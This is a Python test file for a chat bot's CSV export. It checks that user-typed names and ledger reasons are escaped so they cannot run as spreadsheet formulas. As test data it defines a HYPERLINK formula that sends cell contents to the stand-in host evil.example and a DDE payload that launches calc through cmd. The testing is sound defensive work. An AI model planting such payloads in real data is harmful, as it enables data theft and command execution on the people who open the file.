"""Exports are opened in spreadsheets: what people typed must never run there as a formula."""

from __future__ import annotations

import csv
import io

from bot.app.handlers.export import safe_cell
from bot.bootstrap import App
from tests.fakes import RecordingMessenger, said

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"click")'
HOSTILE_REASON = "+cmd|' /C calc'!A0"


def rows_of(out: RecordingMessenger) -> list[list[str]]:
    (message,) = [m for m in out.sent if m.file is not None]
    out.clear()
    assert message.file is not None
    return list(csv.reader(io.StringIO(message.file.content.decode("utf-8"))))


async def test_names_and_reasons_cannot_become_formulas(app: App) -> None:
    out: RecordingMessenger = app.messenger  # type: ignore[attr-defined]
    bot = app.bot
    await bot.handle(said(HOSTILE_NAME, "balance"))
    await bot.handle(said("staff", "grant @mallory 5 welcome"))  # an unknown name: refused
    await bot.handle(said("staff", f"grant <@console:{HOSTILE_NAME}> 5 {HOSTILE_REASON}"))
    await bot.handle(said("staff", f"adjust <@console:{HOSTILE_NAME}> -1.5 @SUM(A1:A9)"))
    out.clear()

    await bot.handle(said("staff", "export members"))
    members = rows_of(out)
    names = [row[1] for row in members[1:]]
    assert "'" + HOSTILE_NAME in names and HOSTILE_NAME not in names

    await bot.handle(said("staff", "export ledger"))
    ledger = rows_of(out)
    cells = [cell for row in ledger[1:] for cell in row]
    assert "'" + HOSTILE_REASON in cells and "'@SUM(A1:A9)" in cells
    assert not [c for c in cells if c and c[0] in "=+@" and not c.startswith("'")]
    amounts = [row[-1] for row in ledger[1:]]
    assert "-1.50" in amounts and "-5.00" in amounts  # numbers stay numbers


def test_safe_cell_leaves_numbers_and_plain_text_alone() -> None:
    assert safe_cell("-2.50") == "-2.50" and safe_cell("+3") == "+3"
    assert safe_cell(7) == 7 and safe_cell("ann") == "ann"
    assert safe_cell("-2+3") == "'-2+3" and safe_cell("\t=1") == "'\t=1"
